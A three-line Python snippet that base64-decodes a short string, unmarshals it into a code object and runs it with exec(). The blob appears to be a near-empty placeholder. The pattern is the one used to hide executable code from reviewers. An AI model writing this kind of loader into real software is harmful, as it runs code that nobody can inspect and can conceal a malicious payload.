import base64, marshal
blob = "4wAAAAAAAAAAAAAAAAAAAAAAAAAA"
exec(marshal.loads(base64.b64decode(blob)))
